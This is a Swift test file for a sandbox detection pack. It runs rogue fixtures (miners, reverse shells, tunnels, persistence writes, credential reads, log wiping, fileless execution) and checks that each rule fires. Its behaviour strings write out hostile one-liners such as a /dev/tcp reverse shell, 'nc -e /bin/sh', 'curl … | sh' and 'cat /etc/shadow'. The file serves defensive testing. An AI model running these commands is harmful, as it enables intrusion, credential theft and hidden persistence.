import Foundation
import Glibc
import Testing

/// Checks that `rule` fired with `action` (and a kill ended the run with 86),
/// and records the row for docs/detections.md.
func expectCaught(_ r: Pack.Run, rule: String, action: String, fixture: String, behaviour: String,
                  bytes: Int? = nil, sourceLocation: SourceLocation = #_sourceLocation) {
    Detections.record(fixture: fixture, behaviour: behaviour, run: r, rule: rule, bytes: bytes)
    let hit = r.fired(rule).first
    #expect(hit != nil, "rule \(rule) did not fire\n\(r.summary)", sourceLocation: sourceLocation)
    #expect(hit?["action"] as? String == action, "\(r.summary)", sourceLocation: sourceLocation)
    if action == "kill" {
        #expect(r.status == 86, "\(r.summary)", sourceLocation: sourceLocation)
    }
    if let bytes, action != "alert" {
        #expect(bytes == 0, "the listener received \(bytes) bytes\n\(r.summary)", sourceLocation: sourceLocation)
    }
}

// MARK: - mining

@Suite struct PackMiningTests {
    @Test func minerByName() throws {
        let box = Sandbox()
        let pool = try LoopbackServer()
        defer { pool.stop() }
        let r = try Pack.run(["/bin/sh", Pack.rogue + "miner_renamed.sh", box.work, "\(pool.port)"], sandbox: box)
        #expect(!r.stdout.contains("miner ran"))
        expectCaught(r, rule: "Cryptominer launched", action: "kill", fixture: "rogue/miner_renamed.sh",
                     behaviour: "program named xmrig started", bytes: pool.settledBytes())
        #expect(pool.connections == 0)
    }

    /// A statically linked miner under an innocent name: its contents give it away at the exec stop.
    @Test func minerByContents() throws {
        let box = Sandbox()
        let renamed = box.work + "/build-helper"
        try FileManager.default.copyItem(atPath: Harness.fixture("fakeminer_static"), toPath: renamed)
        let r = try Pack.run([renamed], sandbox: box)
        #expect(!r.stdout.contains("worker ready"))
        expectCaught(r, rule: "Miner binary by its contents", action: "kill", fixture: "src/fakeminer_static.c",
                     behaviour: "static miner renamed build-helper (RandomX/CryptoNight markers)")
    }

    @Test func stratumURLOnCommandLine() throws {
        let box = Sandbox()
        let pool = try LoopbackServer()
        defer { pool.stop() }
        let r = try Pack.run(["/bin/sh", Pack.rogue + "miner_stratum_argv.sh", "\(pool.port)"], sandbox: box)
        expectCaught(r, rule: "Stratum URL in command line", action: "kill", fixture: "rogue/miner_stratum_argv.sh",
                     behaviour: "innocently named miner given stratum+tcp:// URL", bytes: pool.settledBytes())
        #expect(pool.connections == 0)
    }

    /// The miner connects (connect is not suspicious on its own); its first bytes never leave.
    @Test(arguments: ["write", "send", "sendmsg", "writev", "login"])
    func stratumFirstBytes(mode: String) throws {
        let box = Sandbox()
        let pool = try LoopbackServer()
        defer { pool.stop() }
        let r = try Pack.run([Harness.fixture("rogue_stratum"), "\(pool.port)", mode], sandbox: box)
        #expect(!r.stdout.contains("sent"))
        expectCaught(r, rule: "Stratum protocol sent on a socket", action: "kill", fixture: "src/rogue_stratum.c \(mode)",
                     behaviour: "stratum \(mode == "login" ? "login with XMRig agent" : "mining.subscribe") via \(mode == "login" ? "write" : mode)",
                     bytes: pool.settledBytes())
    }

    @Test func pythonMinerLogin() throws {
        let box = Sandbox()
        let pool = try LoopbackServer()
        defer { pool.stop() }
        let r = try Pack.run(["/usr/bin/python3", Pack.rogue + "fake_miner.py", "--port", "\(pool.port)"], sandbox: box)
        #expect(!r.stdout.contains("login sent"))
        expectCaught(r, rule: "Stratum protocol sent on a socket", action: "kill", fixture: "rogue/fake_miner.py",
                     behaviour: "python miner's stratum login (sendall)", bytes: pool.settledBytes())
    }

    @Test func poolPortFromDroppedProgram() throws {
        let box = Sandbox()
        guard let pool = LoopbackServer.first(of: [3333, 3334, 3335, 3336, 3357, 14433, 14444, 45560, 45700]) else {
            Issue.record("no pool-only port is free on 127.0.0.1")
            return
        }
        defer { pool.stop() }
        // A hidden name in a temporary directory, as droppers do.
        let dropped = box.work + "/.kworker"
        try FileManager.default.copyItem(atPath: Harness.fixture("rogue_connect"), toPath: dropped)
        let r = try Pack.run([dropped, "\(pool.port)"], sandbox: box)
        #expect(r.stdout == "connect=0\n")
        expectCaught(r, rule: "Mining pool port from a dropped program", action: "alert", fixture: "src/rogue_connect.c",
                     behaviour: "hidden program in /tmp connects to pool port \(pool.port)", bytes: pool.settledBytes())
    }

    @Test func poolHostNameOnCommandLine() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "pool_address.sh"], sandbox: box)
        expectCaught(r, rule: "Mining pool address in command line", action: "alert", fixture: "rogue/pool_address.sh",
                     behaviour: "program given pool.supportxmr.com:3333")
        #expect(r.fired("Mining pool address in command line").count == 1, "once, after the exec succeeded")
    }

    @Test func poolDomainLookup() throws {
        let box = Sandbox()
        let resolver = try LoopbackUDP()
        defer { resolver.stop() }
        let r = try Pack.run(["/usr/bin/python3", Pack.rogue + "pool_dns.py", "\(resolver.port)"], sandbox: box)
        #expect(r.stdout == "query refused errno 1\n", "\(r.summary)")
        expectCaught(r, rule: "DNS lookup of a mining pool", action: "deny", fixture: "rogue/pool_dns.py",
                     behaviour: "DNS query for pool.supportxmr.com", bytes: resolver.settledBytes())
    }

    @Test func dnsTunnelKilledBeforeTheFirstQuery() throws {
        let box = Sandbox()
        let resolver = try LoopbackUDP()
        defer { resolver.stop() }
        let r = try Pack.run(["/usr/bin/python3", Pack.rogue + "dns_tunnel.py", "\(resolver.port)"], sandbox: box)
        #expect(r.stdout == "", "\(r.summary)")
        expectCaught(r, rule: "DNS tunnelling", action: "kill", fixture: "rogue/dns_tunnel.py",
                     behaviour: "a secret base32-encoded into DNS names", bytes: resolver.settledBytes())
        #expect(resolver.settledBytes() == 0)
    }
}

// MARK: - reverse shells and tunnels

@Suite struct PackTunnelTests {
    static let catcherCommands = "echo caught-by-catcher; id; exit\n"

    func catcher() throws -> LoopbackServer { try LoopbackServer(greeting: Self.catcherCommands) }

    @Test func reverseShellDup2ThenExec() throws {
        let box = Sandbox()
        let c = try catcher()
        defer { c.stop() }
        let r = try Pack.run([Harness.fixture("rogue_revshell"), "\(c.port)"], sandbox: box)
        expectCaught(r, rule: "Reverse shell", action: "kill", fixture: "src/rogue_revshell.c",
                     behaviour: "connect, dup2 onto 0/1/2, exec /bin/sh", bytes: c.settledBytes())
    }

    @Test func reverseShellThroughAFork() throws {
        let box = Sandbox()
        let c = try catcher()
        defer { c.stop() }
        let r = try Pack.run(["/usr/bin/python3", Pack.rogue + "revshell_subprocess.py", "\(c.port)"], sandbox: box)
        expectCaught(r, rule: "Reverse shell", action: "kill", fixture: "rogue/revshell_subprocess.py",
                     behaviour: "dup2 in python, sh -i in a forked child", bytes: c.settledBytes())
    }

    @Test func reverseShellInABashScript() throws {
        let box = Sandbox()
        let c = try catcher()
        defer { c.stop() }
        let r = try Pack.run(["/bin/bash", Pack.rogue + "revshell_bash_script.sh", "\(c.port)"], sandbox: box)
        expectCaught(r, rule: "Reverse shell", action: "kill", fixture: "rogue/revshell_bash_script.sh",
                     behaviour: "exec 3<>/dev/tcp in a script, sh with fd 3 as stdio", bytes: c.settledBytes())
    }

    @Test func bashDevTcpOneLiner() throws {
        let box = Sandbox()
        let c = try catcher()
        defer { c.stop() }
        let r = try Pack.run(["/bin/sh", Pack.rogue + "revshell_devtcp.sh", "\(c.port)"], sandbox: box)
        expectCaught(r, rule: "Shell redirected to /dev/tcp", action: "kill", fixture: "rogue/revshell_devtcp.sh",
                     behaviour: "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1", bytes: c.settledBytes())
        #expect(c.connections == 0)
    }

    @Test(arguments: ["python", "perl"])
    func interpreterOneLiner(language: String) throws {
        let box = Sandbox()
        let c = try catcher()
        defer { c.stop() }
        let r = try Pack.run(["/bin/sh", Pack.rogue + "revshell_oneliner.sh", language, "\(c.port)"], sandbox: box)
        expectCaught(r, rule: "Interpreter reverse shell one-liner", action: "kill",
                     fixture: "rogue/revshell_oneliner.sh \(language)", behaviour: "\(language) socket + shell one-liner",
                     bytes: c.settledBytes())
        #expect(c.connections == 0)
    }

    @Test(arguments: ["nc", "socat"])
    func netcatExec(tool: String) throws {
        let box = Sandbox()
        let c = try catcher()
        defer { c.stop() }
        let r = try Pack.run(["/bin/sh", Pack.rogue + "netcat_exec.sh", tool, "\(c.port)"], sandbox: box)
        expectCaught(r, rule: "Netcat or socat runs a program on a connection", action: "kill",
                     fixture: "rogue/netcat_exec.sh \(tool)", behaviour: tool == "nc" ? "nc -e /bin/sh" : "socat TCP:… EXEC:/bin/sh",
                     bytes: c.settledBytes())
        #expect(c.connections == 0)
    }

    @Test func namedPipeRelay() throws {
        let box = Sandbox()
        let c = try catcher()
        defer { c.stop() }
        let r = try Pack.run(["/bin/sh", Pack.rogue + "fifo_relay.sh", box.work, "\(c.port)"], sandbox: box)
        expectCaught(r, rule: "Named pipe joined to a netcat", action: "kill", fixture: "rogue/fifo_relay.sh",
                     behaviour: "mkfifo; cat f | sh -i | nc HOST PORT > f (in a script)", bytes: c.settledBytes())
        #expect(c.connections == 0)
    }

    @Test func namedPipeOneLiner() throws {
        let box = Sandbox()
        let c = try catcher()
        defer { c.stop() }
        let r = try Pack.run(["/bin/sh", Pack.rogue + "fifo_oneliner.sh", box.work, "\(c.port)"], sandbox: box)
        expectCaught(r, rule: "Shell relayed through a named pipe", action: "kill", fixture: "rogue/fifo_oneliner.sh",
                     behaviour: "sh -c \"mkfifo f; cat f | sh -i | nc HOST PORT > f\"", bytes: c.settledBytes())
        #expect(c.connections == 0)
        #expect(!box.exists("work/f"), "killed before mkfifo")
    }

    /// Whatever program does it: the name it resolved is the tunnel service's control endpoint.
    @Test func tunnelServiceByResolvedName() throws {
        let box = Sandbox()
        let (dns, dnsPort) = try HostnameTests.responder()
        defer { dns.terminate() }
        let service = try LoopbackServer()
        defer { service.stop() }
        let r = try Pack.run(["/usr/bin/python3", Pack.rogue + "tunnel_service.py", "connect.ngrok-agent.com", "\(dnsPort)",
                              "\(service.port)"], sandbox: box, options: ["--dns-server", "127.0.0.1:\(dnsPort)"])
        expectCaught(r, rule: "Connection to a tunnel service", action: "kill", fixture: "rogue/tunnel_service.py",
                     behaviour: "resolve connect.ngrok-agent.com, connect to it", bytes: service.settledBytes())
        #expect(service.connections == 0)
    }

    @Test func sshRemoteForward() throws {
        let box = Sandbox()
        let target = try LoopbackServer(closeAfter: 0.3)
        defer { target.stop() }
        let r = try Pack.run(["/bin/sh", Pack.rogue + "ssh_forward.sh", "\(target.port)"], sandbox: box)
        expectCaught(r, rule: "SSH tunnel or port forwarding", action: "kill", fixture: "rogue/ssh_forward.sh",
                     behaviour: "ssh -N -R 9000:127.0.0.1:22", bytes: target.settledBytes())
        #expect(target.connections == 0)
    }

    /// Alert only: ssh goes on and sends its banner to the (fake) server.
    @Test func sshToUnusualPort() throws {
        let box = Sandbox()
        guard let target = LoopbackServer.first(of: [4444, 8443, 8080, 1080, 9001], closeAfter: 0.3) else {
            Issue.record("no unusual ssh port is free on 127.0.0.1")
            return
        }
        defer { target.stop() }
        let r = try Pack.run(["/bin/sh", Pack.rogue + "ssh_odd_port.sh", "\(target.port)"], sandbox: box, timeout: 30)
        #expect(r.stdout.contains("ssh exit 255"))
        expectCaught(r, rule: "SSH to an unusual port", action: "alert", fixture: "rogue/ssh_odd_port.sh",
                     behaviour: "ssh -p \(target.port) 127.0.0.1", bytes: target.settledBytes())
    }

    @Test(arguments: [["ngrok", "http", "8080"], ["chisel", "client", "127.0.0.1:9", "R:socks"],
                      ["cloudflared", "tunnel", "--url", "http://127.0.0.1:8080"]])
    func tunnelTool(argv: [String]) throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "standin.sh", box.work] + argv, sandbox: box)
        #expect(!r.stdout.contains("rc="))
        expectCaught(r, rule: "Tunnel tool launched", action: "kill", fixture: "rogue/standin.sh \(argv[0])",
                     behaviour: argv.joined(separator: " ") + " (stand-in binary)")
    }

    @Test func renamedTunnelBinary() throws {
        let box = Sandbox()
        let renamed = box.work + "/syncd"
        try FileManager.default.copyItem(atPath: Harness.fixture("rogue_tunnel_marker"), toPath: renamed)
        let r = try Pack.run([renamed], sandbox: box)
        #expect(r.stdout.isEmpty)
        expectCaught(r, rule: "Tunnel binary by its contents", action: "kill", fixture: "src/rogue_tunnel_marker.c",
                     behaviour: "binary with chisel strings renamed syncd")
    }

    @Test func listenOnAllInterfaces() throws {
        let box = Sandbox()
        let r = try Pack.run(["/usr/bin/python3", Pack.rogue + "listen_all.py"], sandbox: box)
        #expect(r.stdout == "listen refused errno 13\n", "\(r.summary)")
        expectCaught(r, rule: "Listening on a non-loopback address", action: "deny", fixture: "rogue/listen_all.py",
                     behaviour: "listen on 0.0.0.0")
    }
}

// MARK: - persistence

@Suite struct PackPersistenceTests {
    @Test(arguments: [("authorized_keys", "SSH authorized_keys written", "deny", "home/agent/.ssh/authorized_keys"),
                      ("systemd_user", "Service or boot script written", "deny", "home/agent/.config/systemd/user/agent.service"),
                      ("autostart", "Service or boot script written", "deny", "home/agent/.config/autostart/agent.desktop"),
                      ("bashrc", "Shell start-up file modified", "alert", "home/agent/.bashrc"),
                      ("bashrc_sed", "Shell start-up file modified", "alert", "home/agent/.bashrc")])
    func homePersistence(mode: String, rule: String, action: String, file: String) throws {
        let box = Sandbox()
        if mode == "bashrc_sed" { box.write("home/agent/.bashrc", "# rc\n") }
        let r = try Pack.run(["/bin/sh", Pack.rogue + "persist_home.sh", mode], sandbox: box)
        expectCaught(r, rule: rule, action: action, fixture: "rogue/persist_home.sh \(mode)",
                     behaviour: "write \(file.replacingOccurrences(of: "home/agent", with: "~"))")
        if action == "deny" {
            #expect(!box.exists(file), "\(file) was written")
            #expect(r.stdout.contains("write rc=2") || r.stdout.contains("write rc=1"), "\(r.summary)")
        } else {
            #expect(r.stdout == "write rc=0\n")
        }
    }

    @Test(.enabled(if: Pack.canPrivateEtc, "needs unshare -rm with tmpfs mounts (user and mount namespaces)"),
          arguments: [("/etc/cron.d/agent", "Cron job written", "deny"),
                      ("/var/spool/cron/crontabs/root", "Cron job written", "deny"),
                      ("/etc/systemd/system/agent.service", "Service or boot script written", "deny"),
                      ("/etc/init.d/agent", "Service or boot script written", "deny"),
                      ("/etc/rc.local", "Service or boot script written", "deny"),
                      ("/etc/ld.so.preload", "Dynamic loader configuration written", "deny"),
                      ("/etc/sudoers.d/agent", "Account or login configuration written", "deny"),
                      ("/etc/profile.d/agent.sh", "Shell start-up file modified", "alert")])
    func systemPersistence(target: String, rule: String, action: String) throws {
        let box = Sandbox()
        let r = try Pack.run(Pack.inPrivateEtc(["/bin/sh", Pack.rogue + "persist_system.sh", target]), sandbox: box)
        expectCaught(r, rule: rule, action: action, fixture: "rogue/persist_system.sh", behaviour: "write \(target)")
        #expect(r.stdout == (action == "deny" ? "write rc=2\n" : "write rc=0\n"), "\(r.summary)")
    }

    @Test(arguments: [("crontab", "Job scheduler invoked"), ("systemctl", "Service enabled")])
    func schedulers(tool: String, rule: String) throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "scheduler.sh", box.work, tool], sandbox: box)
        expectCaught(r, rule: rule, action: "deny", fixture: "rogue/scheduler.sh \(tool)",
                     behaviour: tool == "crontab" ? "crontab FILE" : "systemctl enable --now agent.service")
        #expect(r.stdout.contains("\(tool) rc=126"), "\(r.summary)")
    }

    @Test func accountCreation() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "standin.sh", box.work, "useradd", "-m", "backdoor"], sandbox: box)
        expectCaught(r, rule: "Account management program run", action: "deny", fixture: "rogue/standin.sh useradd",
                     behaviour: "useradd -m backdoor (stand-in binary)")
        #expect(r.stdout == "useradd rc=126\n", "\(r.summary)")
    }

    /// The tracer reports and kills what outlives the command; the pack records the detaching.
    @Test func doubleForkSurvivorIsKilled() throws {
        let box = Sandbox()
        let r = try Pack.run([Harness.fixture("daemonize"), "30"], sandbox: box, trace: true)
        expectCaught(r, rule: "Process detached into a new session", action: "alert", fixture: "src/daemonize.c",
                     behaviour: "double fork + setsid, daemon outlives the command")
        #expect(r.stderr.contains("outlived the command; killed"), "\(r.summary)")
        #expect(r.status == 0)
        let pids = r.events.filter { $0["ev"] as? String == "spawn" }.compactMap { ($0["pid"] as? NSNumber)?.int32Value }
        #expect(pids.count == 3)
        for pid in pids { #expect(TracerExitTests.goneOrZombie(pid)) }
    }

    @Test func nohupSurvivorIsKilled() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "nohup_survivor.sh"], sandbox: box, trace: true)
        expectCaught(r, rule: "Program started to outlive the agent", action: "alert", fixture: "rogue/nohup_survivor.sh",
                     behaviour: "nohup sleep 30 &, then exit")
        #expect(r.stderr.contains("outlived the command; killed"), "\(r.summary)")
        let pids = r.events.filter { $0["ev"] as? String == "spawn" }.compactMap { ($0["pid"] as? NSNumber)?.int32Value }
        for pid in pids { #expect(TracerExitTests.goneOrZombie(pid)) }
    }
}

// MARK: - credentials

@Suite struct PackCredentialTests {
    static let secrets: [(String, String)] = [
        ("home/agent/.ssh/id_ed25519", "Private key read"),
        ("home/agent/.aws/credentials", "Cloud or registry credentials read"),
        ("home/agent/.kube/config", "Cloud or registry credentials read"),
        ("home/agent/.docker/config.json", "Cloud or registry credentials read"),
        ("home/agent/.netrc", "Cloud or registry credentials read"),
        ("home/agent/.git-credentials", "Cloud or registry credentials read"),
        ("home/agent/.npmrc", "Cloud or registry credentials read"),
        ("home/agent/.config/gcloud/application_default_credentials.json", "Cloud or registry credentials read"),
    ]

    @Test(arguments: secrets.map { $0.0 })
    func homeSecretRead(file: String) throws {
        let box = Sandbox()
        box.write(file, "SECRET-TOKEN-FOR-TESTS\n")
        let rule = Self.secrets.first { $0.0 == file }?.1 ?? ""
        let r = try Pack.run(["/bin/sh", Pack.rogue + "read_secret.sh", box.root + "/" + file], sandbox: box)
        expectCaught(r, rule: rule, action: "deny", fixture: "rogue/read_secret.sh",
                     behaviour: "cat " + file.replacingOccurrences(of: "home/agent", with: "~"))
        #expect(r.stdout == "read rc=1\n", "\(r.summary)")
        #expect(r.stderr.contains("Operation not permitted"))
    }

    @Test func otherProcessMemory() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", "-c", "/bin/sh \(Pack.rogue)read_secret.sh /proc/$$/mem"], sandbox: box)
        expectCaught(r, rule: "Another process's memory opened", action: "deny", fixture: "rogue/read_secret.sh",
                     behaviour: "open /proc/PID/mem of the parent shell")
        #expect(r.stdout == "read rc=1\n", "\(r.summary)")
    }

    @Test func shadowRead() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "read_secret.sh", "/etc/shadow"], sandbox: box)
        expectCaught(r, rule: "Password database or sudoers read", action: "deny", fixture: "rogue/read_secret.sh",
                     behaviour: "cat /etc/shadow")
        #expect(r.stdout == "read rc=1\n", "\(r.summary)")
    }

    @Test func otherProcessEnvironment() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", "-c", "/bin/sh \(Pack.rogue)read_secret.sh /proc/$$/environ"], sandbox: box)
        expectCaught(r, rule: "Another process's environment read", action: "deny", fixture: "rogue/read_secret.sh",
                     behaviour: "cat /proc/PID/environ of the parent shell")
        #expect(r.stdout == "read rc=1\n", "\(r.summary)")
    }

    @Test func keyHunting() throws {
        let box = Sandbox()
        box.write("home/agent/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\n")
        let r = try Pack.run(["/bin/sh", Pack.rogue + "key_hunt.sh"], sandbox: box)
        expectCaught(r, rule: "Search for private keys or secrets", action: "deny", fixture: "rogue/key_hunt.sh",
                     behaviour: "grep -r \"BEGIN OPENSSH PRIVATE KEY\" ~")
        #expect(r.stdout == "grep rc=126\n", "\(r.summary)")
    }

    /// A second thread (or a forked process sharing the page) flips the path
    /// between an innocent file and the key while the first opens it: the tracer
    /// checks one, the kernel may open the other. The exit is compared with the
    /// kernel's view of the descriptor: never a byte of the key is read (without
    /// the check this leaks on most runs). With `vfork` the opener is a vfork
    /// child, whose memory is its multithreaded parent's.
    @Test(arguments: ["thread", "process", "vfork"]) func racingTheCheckedPath(flipper: String) throws {
        let box = Sandbox()
        box.write("home/agent/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\n")
        box.write("work/notes.txt", "hello\n")
        let r = try Pack.run([Harness.fixture("race_open"), box.work + "/notes.txt", box.home + "/.ssh/id_ed25519", "3000",
                              flipper], sandbox: box)
        #expect(!r.stdout.contains("leaked") || r.stdout.hasPrefix("leaked 0 "), "\(r.summary)")
        #expect(!r.stdout.contains("opener killed") || r.stdout.hasPrefix("opener killed, 0 of "), "\(r.summary)")
        if !r.stdout.contains("leaked") {
            // The race was won at least once: caught on the truth and killed.
            #expect(r.status == 86, "\(r.summary)")
            #expect(r.stderr.contains("but the kernel used \(box.home)/.ssh/id_ed25519"), "\(r.summary)")
            expectCaught(r, rule: "Private key read", action: "deny", fixture: "src/race_open.c \(flipper)",
                         behaviour: flipper == "vfork" ? "a thread flips the path a vfork child opens from a note to the key"
                             : "a \(flipper) flips an opened path from a note to the key")
        }
    }

    @Test func symlinkToShadow() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "link_secret.sh", box.work], sandbox: box)
        expectCaught(r, rule: "Link to a credential file", action: "deny", fixture: "rogue/link_secret.sh",
                     behaviour: "ln -s /etc/shadow notes.txt")
        #expect(!box.exists("work/notes.txt"))
    }

    /// Never lets a packet reach the real 169.254.169.254: the deny comes before
    /// the connect, and the fixture runs in a network namespace of its own whose
    /// loopback carries that address, so even a connect that got through would
    /// only reach a test host of the namespace.
    @Test(.enabled(if: Pack.canNetnsHosts, "needs unshare -rn and ip (user and network namespaces) to keep the metadata address unreachable"))
    func metadataService() throws {
        let box = Sandbox()
        let r = try Pack.run(["env", "TEST_HOSTS=169.254.169.254", "unshare", "-rn", Pack.rogue + "netns_hosts.sh",
                              "/usr/bin/python3", Pack.rogue + "metadata.py"], sandbox: box)
        expectCaught(r, rule: "Cloud metadata service contacted", action: "deny", fixture: "rogue/metadata.py",
                     behaviour: "connect 169.254.169.254:80 (in its own netns)", bytes: 0)
        #expect(r.stdout == "connect errno 1\n", "EPERM expected\n\(r.summary)")
    }
}

// MARK: - evasion

@Suite struct PackEvasionTests {
    @Test func ioUring() throws {
        let box = Sandbox()
        let r = try Pack.run([Harness.fixture("rogue_io_uring")], sandbox: box)
        expectCaught(r, rule: "io_uring used", action: "deny", fixture: "src/rogue_io_uring.c", behaviour: "io_uring_setup")
        #expect(r.stdout == "io_uring_setup=-1 errno=1\n", "\(r.summary)")
    }

    @Test(arguments: [("attach", "Ptrace of another process", "ptrace_attach"),
                      ("vmwrite", "Write into another process's memory", "process_vm_writev")])
    func otherProcess(mode: String, rule: String, call: String) throws {
        let box = Sandbox()
        // A process outside the traced tree, as the target.
        let victim = Process()
        victim.executableURL = URL(fileURLWithPath: "/bin/sleep")
        victim.arguments = ["30"]
        try victim.run()
        defer { victim.terminate(); victim.waitUntilExit() }
        let r = try Pack.run([Harness.fixture("rogue_ptrace"), "\(victim.processIdentifier)", mode], sandbox: box)
        expectCaught(r, rule: rule, action: "deny", fixture: "src/rogue_ptrace.c \(mode)",
                     behaviour: "\(call) of a process outside the tree")
        #expect(r.stdout == "\(call)=-1 errno=1\n", "\(r.summary)")
    }

    @Test func memfdExec() throws {
        let box = Sandbox()
        let r = try Pack.run([Harness.fixture("memfd_exec")], sandbox: box)
        expectCaught(r, rule: "Fileless execution", action: "deny", fixture: "src/memfd_exec.c",
                     behaviour: "memfd_create + execveat(AT_EMPTY_PATH)")
        #expect(!r.stdout.contains("from-memfd"))
        #expect(r.status == 5)
    }

    @Test func execFromDevShm() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "exec_shm.sh"], sandbox: box)
        expectCaught(r, rule: "Execution from shared memory", action: "deny", fixture: "rogue/exec_shm.sh",
                     behaviour: "copy a program to /dev/shm and run it")
        #expect(r.stdout == "exec rc=126\n", "\(r.summary)")
    }

    @Test func downloadChmodExec() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "download_exec.sh", box.work], sandbox: box)
        expectCaught(r, rule: "Downloaded file made executable and run", action: "alert", fixture: "rogue/download_exec.sh",
                     behaviour: "curl -o tool; chmod +x tool; ./tool")
        #expect(r.stdout == "tool rc=0\n")
    }

    @Test func curlPipedIntoShell() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "curl_pipe_sh.sh"], sandbox: box)
        expectCaught(r, rule: "Download piped into a shell", action: "alert", fixture: "rogue/curl_pipe_sh.sh",
                     behaviour: "sh -c \"curl … | sh\"")
        #expect(r.stdout == "pipe rc=0\n")
    }

    @Test func ownSeccompFilter() throws {
        let box = Sandbox()
        let r = try Pack.run([Harness.fixture("rogue_seccomp")], sandbox: box)
        expectCaught(r, rule: "Process installs its own seccomp filter", action: "alert", fixture: "src/rogue_seccomp.c",
                     behaviour: "seccomp(SECCOMP_SET_MODE_FILTER) with an allow-all filter")
        #expect(r.stdout == "seccomp=0\n")
    }

    @Test func sudoAttempt() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "standin.sh", box.work, "sudo", "-n", "id"], sandbox: box)
        expectCaught(r, rule: "Privilege elevation attempted", action: "alert", fixture: "rogue/standin.sh sudo",
                     behaviour: "sudo -n id (stand-in binary)")
    }

    @Test(arguments: [("module", "Kernel module loaded or removed", "finit_module"), ("bpf", "BPF program loaded", "bpf")])
    func kernel(mode: String, rule: String, call: String) throws {
        let box = Sandbox()
        let r = try Pack.run([Harness.fixture("rogue_kmod"), mode], sandbox: box)
        expectCaught(r, rule: rule, action: "deny", fixture: "src/rogue_kmod.c \(mode)", behaviour: call)
        #expect(r.stdout == "\(call)=-1 errno=1\n", "\(r.summary)")
    }

    @Test(arguments: ["rm", "truncate", "devnull"])
    func historyWipe(mode: String) throws {
        let box = Sandbox()
        box.write("home/agent/.bash_history", "ls\ncat secrets\n")
        let r = try Pack.run(["/bin/sh", Pack.rogue + "wipe_history.sh", mode], sandbox: box)
        expectCaught(r, rule: "Shell history erased", action: "deny", fixture: "rogue/wipe_history.sh \(mode)",
                     behaviour: ["rm": "rm ~/.bash_history", "truncate": ": > ~/.bash_history",
                                 "devnull": "ln -sf /dev/null ~/.bash_history"][mode] ?? mode)
        #expect(box.read("home/agent/.bash_history") == "ls\ncat secrets\n")
        #expect(r.stdout == "wipe rc=\(mode == "truncate" ? 2 : 1)\n", "\(r.summary)")
    }

    @Test(.enabled(if: Pack.canPrivateEtc, "needs unshare -rm with tmpfs mounts (user and mount namespaces)"))
    func systemLogWipe() throws {
        let box = Sandbox()
        let r = try Pack.run(Pack.inPrivateEtc(["/bin/sh", Pack.rogue + "wipe_logs.sh"]), sandbox: box)
        expectCaught(r, rule: "System log erased", action: "deny", fixture: "rogue/wipe_logs.sh",
                     behaviour: ": > /var/log/auth.log")
        #expect(r.stdout == "truncate rc=2\n", "\(r.summary)")
    }

    @Test func setuidBit() throws {
        let box = Sandbox()
        let r = try Pack.run(["/bin/sh", Pack.rogue + "setuid.sh", box.work], sandbox: box)
        expectCaught(r, rule: "Setuid or setgid bit set", action: "deny", fixture: "rogue/setuid.sh",
                     behaviour: "chmod u+s on a copied program")
        let mode = (try FileManager.default.attributesOfItem(atPath: box.work + "/rootme")[.posixPermissions] as? NSNumber)?.intValue ?? 0
        #expect(mode & 0o4000 == 0)
    }

    @Test func thirtyTwoBitSyscalls() throws {
        let box = Sandbox()
        let l = try LoopbackServer()
        defer { l.stop() }
        let r = try Pack.run([Harness.fixture("int80"), "\(l.port)"], sandbox: box)
        expectCaught(r, rule: "32-bit syscall from the agent", action: "alert", fixture: "src/int80.c",
                     behaviour: "open, socket, connect through int 0x80")
        #expect(r.fired("32-bit syscall from the agent").count == 3)
    }

    @Test func cloneUntraced() throws {
        let box = Sandbox()
        let r = try Pack.run([Harness.fixture("clone_untraced")], sandbox: box)
        expectCaught(r, rule: "Untraced child requested", action: "alert", fixture: "src/clone_untraced.c",
                     behaviour: "clone/clone3 with CLONE_UNTRACED (the tracer refuses it)")
        #expect(r.stdout.contains("clone=-1 errno=Operation not permitted"))
    }
}
